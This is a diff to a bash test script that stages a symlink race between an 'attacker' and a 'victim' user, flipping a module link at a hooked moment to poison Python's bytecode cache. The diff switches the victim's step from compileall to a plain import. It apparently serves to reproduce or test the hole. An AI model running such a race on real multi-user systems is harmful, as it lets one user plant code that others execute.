@@ -36,8 +36,8 @@ for tries in range(1000):
         break
 END
 
-# The attacker's tree has a link to his file when the victim compiles it. At that moment, he
-# makes it lead to the other one.
+# The attacker's tree has a link to his file when the victim runs it. At that moment, he makes it
+# lead to the other one. (A compiler does not follow the link.)
 attack() { # MOMENT
 	unshare -m bash -s "$1" <<'END'
 cd "$T" && rm -rf theirs own tree "$cache" orders done && mkdir theirs own tree && mkfifo -m 666 orders done
@@ -46,7 +46,7 @@ mount -t tmpfs none theirs && mount -t tmpfs none own && chmod 755 theirs own
 exec 3<>orders
 ln -s "$T/theirs/m.py" tree/m.py && chown -hR "$ATTACKER" tree
 (read -r order <orders && [ "$order" = flip ] && ln -sfn "$T/own/m.py" tree/m.py && echo >done) &
-with "$VICTIM" "$cache" LD_PRELOAD="$T/lib/libat.so $SO" AT="$1" DO="echo flip >'$T/orders'; cat '$T/done' >/dev/null" "$PY" -m compileall -q tree
+with "$VICTIM" "$cache" LD_PRELOAD="$T/lib/libat.so $SO" AT="$1" DO="echo flip >'$T/orders'; cat '$T/done' >/dev/null" "$PY" -c "$(imports "$T/tree")" >/dev/null
 echo end >orders
 wait
 find "$cache" -path '*/tree/*' -name 'm.*.pyc' | grep -c .
@@ -54,7 +54,7 @@ readlink tree/m.py
 with "$VICTIM" "$cache" "$PY" -c "import sys; sys.path.insert(0, '$T/own'); import m"
 END
 }
-export -f as with
+export -f as with imports
 export T SO PY VICTIM ATTACKER
 for moment in rename:.pyc open:/m.py:after; do
 	if ! unshare -m true 2>/dev/null; then
